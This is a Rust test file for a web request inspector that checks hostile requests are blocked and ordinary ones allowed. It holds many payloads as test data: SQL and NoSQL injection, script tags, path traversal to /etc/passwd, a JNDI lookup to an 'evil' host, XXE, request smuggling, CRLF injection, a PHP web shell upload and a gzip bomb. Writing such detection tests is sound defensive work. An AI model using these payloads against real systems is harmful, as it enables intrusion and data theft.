#![cfg(test)]
//! Whole requests, ordinary and hostile.

use std::io::Write as _;
use std::time::Duration;

use hangu_inspect::{
    Category, Completeness, Head, Inspector, Layer, Place, Settings, Undecodable, Verdict, cli, raw,
};
use proptest::prelude::*;

const FORM: &str = "application/x-www-form-urlencoded";

#[test]
fn an_ordinary_request_has_no_findings() {
    let verdict = query("category=household&page=2&q=%E6%88%B7%E5%8F%A3");
    assert_eq!(verdict, Verdict::default());
}

#[test]
fn attacks_in_every_place_of_a_head_are_blocked_and_the_place_is_named() {
    let inspector = inspector();
    let at = |path: &str, query: Option<&str>, headers: &[(&str, &[u8])]| {
        inspector.head(&Head {
            method: "GET",
            target_path: path.as_bytes(),
            query: query.map(str::as_bytes),
            headers,
        })
    };
    let places = |verdict: Verdict| {
        assert!(verdict.blocks(5), "{verdict:?}");
        verdict.findings[0].place.clone()
    };
    assert_eq!(
        places(at("/a/..%2f..%2fetc/passwd", None, &[])),
        Place::Path
    );
    assert_eq!(places(at("/.env", None, &[])), Place::Path);
    assert_eq!(places(at("/item/1'%20or%20'1'='1", None, &[])), Place::Path);
    assert_eq!(
        places(at("/", Some("id=1'+or+'1'='1"), &[])),
        Place::Query("id".into())
    );
    assert_eq!(places(at("/", Some("a[$ne]=1"), &[])), Place::QueryName);
    assert_eq!(
        places(at("/", Some("<script>alert(1)</script>"), &[])),
        Place::Query(String::new())
    );
    assert_eq!(
        places(at("/", None, &[("user-agent", b"sqlmap/1.8#stable")])),
        Place::Header("user-agent".into())
    );
    assert_eq!(
        places(at(
            "/",
            None,
            &[("x-api-version", b"${jndi:ldap://evil/a}")]
        )),
        Place::Header("x-api-version".into())
    );
    assert_eq!(
        places(at(
            "/",
            None,
            &[("cookie", b"a=1; id=1%27%20union%20select%201,2--")]
        )),
        Place::Cookie("id".into())
    );
    assert_eq!(
        places(at(
            "/",
            None,
            &[("referer", b"http://x/?q=%3Cscript%3Ealert(1)%3C/script%3E")]
        )),
        Place::Header("referer".into())
    );
    assert_eq!(
        places(at(
            "/",
            None,
            &[("content-length", b"5"), ("transfer-encoding", b"chunked")]
        )),
        Place::Header("transfer-encoding".into())
    );
    assert_eq!(
        places(at("/", Some("next=%0d%0aSet-Cookie:%20a=1"), &[])),
        Place::Query("next".into())
    );
}

#[test]
fn repeated_parameters_are_read_one_by_one_and_joined() {
    assert!(query("a=x&a=1'+or+'1'='1&a=y").blocks(5));
    assert!(query("id=1+union/*&id=*/select+1,2,3--").blocks(5));
}

#[test]
fn encodings_in_encodings_are_seen_through_and_named() {
    let twice = query("q=%253Cscript%253Ealert(1)%253C%252Fscript%253E");
    assert!(twice.blocks(5));
    assert_eq!(&*twice.findings[0].layers, [Layer::Percent]);
    assert!(query("q=%2527%2520or%25201%253D1--").blocks(5));
    assert!(query("f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd").blocks(5));
    assert!(query("f=%252e%252e%252f%252e%252e%252fx").blocks(5));
    assert!(
        query("q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D").findings[0]
            .layers
            .contains(&Layer::Base64)
    );
    assert!(
        query("q=%EF%BC%9Cscript%EF%BC%9Ealert(1)").findings[0]
            .layers
            .contains(&Layer::FullWidth)
    );
    assert!(query("q=%26lt;script%26gt;alert(1)").blocks(5));
    assert!(
        query("q=%25252525252541")
            .findings
            .iter()
            .any(|f| f.rule.as_str() == "protocol-depth")
    );
}

#[test]
fn compressed_bodies_are_read_like_plain_ones() {
    let attack = b"id=1'+or+'1'='1";
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gzip.write_all(attack).unwrap();
    let gzip = gzip.finish().unwrap();
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
    zlib.write_all(attack).unwrap();
    let zlib = zlib.finish().unwrap();
    let mut br = Vec::new();
    brotli::CompressorWriter::new(&mut br, 4096, 5, 20)
        .write_all(attack)
        .unwrap();
    for (coding, bytes) in [("gzip", &gzip), ("deflate", &zlib), ("br", &br)] {
        assert!(
            inspector()
                .body(Some(FORM), Some(coding), bytes, Completeness::Whole)
                .unwrap()
                .blocks(5),
            "{coding}"
        );
    }
}

#[test]
fn what_cannot_be_decoded_says_why() {
    let body = |content_type, coding, bytes: &[u8]| {
        inspector().body(content_type, coding, bytes, Completeness::Whole)
    };
    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    bomb.write_all(&vec![b' '; 20 << 20]).unwrap();
    assert_eq!(
        body(None, Some("gzip"), &bomb.finish().unwrap()),
        Err(Undecodable::TooLarge)
    );
    assert_eq!(
        body(None, Some("gzip"), b"no gzip"),
        Err(Undecodable::Corrupt)
    );
    assert_eq!(
        body(None, Some("gzip, br"), b"x"),
        Err(Undecodable::UnknownCoding("gzip, br".into()))
    );
    assert_eq!(
        body(Some("application/json"), None, "[".repeat(1000).as_bytes()),
        Err(Undecodable::TooDeep)
    );
    assert_eq!(
        body(Some("text/plain; charset=utf-16"), None, b"x"),
        Err(Undecodable::Charset("utf-16".into()))
    );
    assert_eq!(
        body(Some("text/plain; charset=ibm037"), None, b"x"),
        Err(Undecodable::Charset("ibm037".into()))
    );
    assert_eq!(
        body(Some("multipart/form-data"), None, b"x"),
        Err(Undecodable::Multipart)
    );
}

#[test]
fn json_is_read_to_the_bottom_of_its_strings() {
    let body = |text: &str| {
        inspector()
            .body(
                Some("application/json"),
                None,
                text.as_bytes(),
                Completeness::Whole,
            )
            .unwrap()
    };
    let nested = body(r#"{"a":{"b":["x","{\"c\":\"1' or '1'='1\"}"]}}"#);
    assert!(nested.blocks(5));
    assert!(body(r#"{"a":"\u003cscript\u003ealert(1)"}"#).blocks(5));
    assert!(body(r#"{"user":{"$ne":null},"a":1}"#).blocks(5));
    assert!(body(r#"{"__proto__":{"admin":true}}"#).blocks(5));
    assert!(body(r#"{"a":1,"a":"1 union select 1,2"}"#).blocks(5));
    assert!(
        body(r#"{'a': "<script>alert(1)</script>"}"#).blocks(5),
        "lenient JSON is read as text"
    );
    assert_eq!(
        body(r#"{"name":"张三","tags":["a","b"],"note":"it's fine"}"#),
        Verdict::default()
    );
    let place = body(r#"{"a":["<script>alert(1)</script>"]}"#).findings[0]
        .place
        .clone();
    assert_eq!(place, Place::Json("/a/0".into()));
}

#[test]
fn multipart_names_file_names_and_texts_are_read() {
    let body = |disposition: &str, content: &str| {
        let text = format!(
            "--b\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{content}\r\n--b--\r\n"
        );
        inspector()
            .body(
                Some("multipart/form-data; boundary=b"),
                None,
                text.as_bytes(),
                Completeness::Whole,
            )
            .unwrap()
    };
    assert_eq!(
        body("name=\"file\"; filename=\"学习 asp net.cer\"", "x"),
        Verdict::default()
    );
    assert_eq!(body("name=\"remark\"", "请尽快办理"), Verdict::default());
    assert_eq!(
        body(
            "name=\"file\"; filename=\"合同.pdf\"",
            "%PDF-1.7 select * from x where 1=1"
        ),
        Verdict::default()
    );
    assert!(body("name=\"remark\"", "1' or '1'='1").blocks(5));
    assert!(body("name=\"a' or '1'='1\"", "x").blocks(5));
    assert!(body("name=\"file\"; filename=\"../../shell.png\"", "x").blocks(5));
    assert!(body("name=\"file\"; filename=\"shell.php.jpg\"", "x").blocks(5));
    assert!(
        body(
            "name=\"file\"; filename=\"a.jpg\"",
            "GIF89a<?php system($_GET[0]);"
        )
        .blocks(5)
    );
    assert!(
        body(
            "name=\"file\"; filename=\"a.txt\"; filename*=UTF-8''..%2f..%2fa.jsp",
            "x"
        )
        .blocks(5)
    );
}

#[test]
fn xml_with_a_document_type_and_attacks_in_its_texts_are_blocked() {
    let body = |text: &str| {
        inspector()
            .body(
                Some("text/xml; charset=utf-8"),
                None,
                text.as_bytes(),
                Completeness::Whole,
            )
            .unwrap()
    };
    assert!(body("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>").findings.iter().any(|f| f.category == Category::Xml));
    assert!(body("<a><b>1' or '1'='1</b></a>").blocks(5));
    assert!(body("<a><![CDATA[<script>alert(1)</script>]]></a>").blocks(5));
    assert_eq!(
        body(
            "<soap:Envelope xmlns:soap=\"http://x/y\"><soap:Body><name>张三</name></soap:Body></soap:Envelope>"
        ),
        Verdict::default()
    );
}

#[test]
fn a_body_under_a_false_type_is_read_for_what_it_is() {
    for content_type in [
        None,
        Some("text/plain"),
        Some("application/octet-stream"),
        Some(FORM),
    ] {
        let verdict = inspector()
            .body(
                content_type,
                None,
                br#"{"a":"1\u0027 or \u00271\u0027=\u00271"}"#,
                Completeness::Whole,
            )
            .unwrap();
        assert!(verdict.blocks(5), "{content_type:?}");
    }
}

/// What this thread has taken of a processor so far.
fn processor_time() -> Duration {
    let told = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
    let nanoseconds = told.split(' ').next().unwrap();
    Duration::from_nanos(nanoseconds.parse().unwrap())
}

#[test]
fn time_is_linear_in_hostile_values() {
    let inspector = inspector();
    for piece in [
        "'",
        "\"",
        "(",
        "<",
        "%",
        "&#",
        "\\u",
        "`",
        "$(",
        "{{",
        "../",
        "/*",
        "select(",
        "'or ",
        "<a ",
        "<a \"",
        "on=",
        ";id ",
        "union ",
        "${",
        "=",
        "..",
        "a='",
        "--\n",
        "%25",
        "+A-",
        "1 and (",
        "\u{ff1c}",
        "eval",
        "[",
        "case when ",
        "char(1)",
        "[[",
        "select a,",
        "(select 1 + ",
    ] {
        let value = piece.repeat((64 << 10) / piece.len());
        let best = |value: &str| {
            // The fastest of three: what else runs on the machine only adds, to the processor's time as well.
            (0..3)
                .map(|_| {
                    let before = processor_time();
                    let _ = inspector.body(
                        Some("text/plain"),
                        None,
                        value.as_bytes(),
                        Completeness::Whole,
                    );
                    processor_time() - before
                })
                .min()
                .unwrap()
        };
        let (once, four) = (best(&value), best(&value.repeat(4)));
        println!("{piece:?}: {once:?}, {four:?}");
        // Four times the input may take eight times as long on a busy machine, not sixteen.
        assert!(once.as_millis() < 400, "`{piece}` took {once:?}");
        assert!(
            four < once * 12 + Duration::from_millis(50),
            "`{piece}`: {once:?}, then {four:?}"
        );
    }
}

#[test]
fn requests_in_files_are_judged_one_a_line() {
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str, text: &str| {
        let path = folder.path().join(name);
        std::fs::write(&path, text).unwrap();
        path
    };
    let files = [
        file("plain", "GET /a?b=1 HTTP/1.1\nHost: x\n\n"),
        file(
            "attack",
            "POST /a HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\r\n{\"a\":\"<script>alert(1)</script>\"}",
        ),
        file("broken", "hello"),
        folder.path().join("missing"),
    ];
    let mut out = Vec::new();
    let outcome = cli::inspect(&inspector(), None, 5, files.into_iter(), &mut out).unwrap();
    assert_eq!(
        outcome,
        cli::Outcome {
            allowed: 1,
            blocked: 1,
            failed: 2
        }
    );
    let lines: Vec<serde_json::Value> = String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(
        (&lines[0]["verdict"], &lines[0]["score"]),
        (&"allow".into(), &0.into())
    );
    assert_eq!(
        (
            &lines[1]["verdict"],
            &lines[1]["findings"][0]["place"]["name"]
        ),
        (&"block".into(), &"/a".into())
    );
    assert_eq!(lines[1]["findings"][0]["technique"], "T1059.007");
    assert!(
        lines[2]["error"].as_str().unwrap().contains("request line")
            && lines[3]["error"].is_string()
    );
}

proptest! {
    #[test]
    fn no_request_panics_the_inspector(bytes in proptest::collection::vec(any::<u8>(), 0..400), kind in 0..6usize, coding in 0..4usize) {
        let inspector = inspector();
        let content_type = [None, Some(FORM), Some("application/json"), Some("text/xml; charset=gbk"), Some("multipart/form-data; boundary=b"), Some("text/plain")][kind];
        let coding = [None, Some("gzip"), Some("br"), Some("deflate")][coding];
        let _ = inspector.body(content_type, coding, &bytes, Completeness::Whole);
        let _ = inspector.body(content_type, None, &bytes, Completeness::Truncated);
        let text = String::from_utf8_lossy(&bytes);
        let _ = inspector.head(&Head { method: &text, target_path: &bytes, query: Some(&bytes), headers: &[("cookie", &bytes), ("referer", &bytes), (&text, &bytes)] });
        if let Ok(request) = raw::parse(&bytes) {
            let _ = cli::judge(&inspector, &request);
        }
    }

    #[test]
    fn no_mix_of_syntax_panics_the_detectors(pieces in proptest::collection::vec(proptest::sample::select(&["'", "\"", "or ", "select ", "(", ")", "union ", "--", "/*", "*/", "<", ">", "<a ", "on", "=", ";", "id", "$(", "`", "{{", "}}", "..", "/", "\\", "0x", "1", " ", "\u{4e2d}", "from ", "%27", "&lt;", "case ", "when ", "\n"][..]), 0..60)) {
        let verdict = inspector().body(Some("text/plain"), None, pieces.concat().as_bytes(), Completeness::Whole).unwrap();
        for finding in verdict.findings.iter() {
            prop_assert!(finding.evidence.chars().count() <= 80);
        }
    }
}

fn inspector() -> Inspector {
    static SHARED: std::sync::OnceLock<Inspector> = std::sync::OnceLock::new();
    SHARED
        .get_or_init(|| Inspector::new(Settings::default()))
        .clone()
}

fn query(query: &str) -> Verdict {
    inspector().head(&Head {
        method: "GET",
        target_path: b"/a",
        query: Some(query.as_bytes()),
        headers: &[("host", b"www.example.gov.cn")],
    })
}
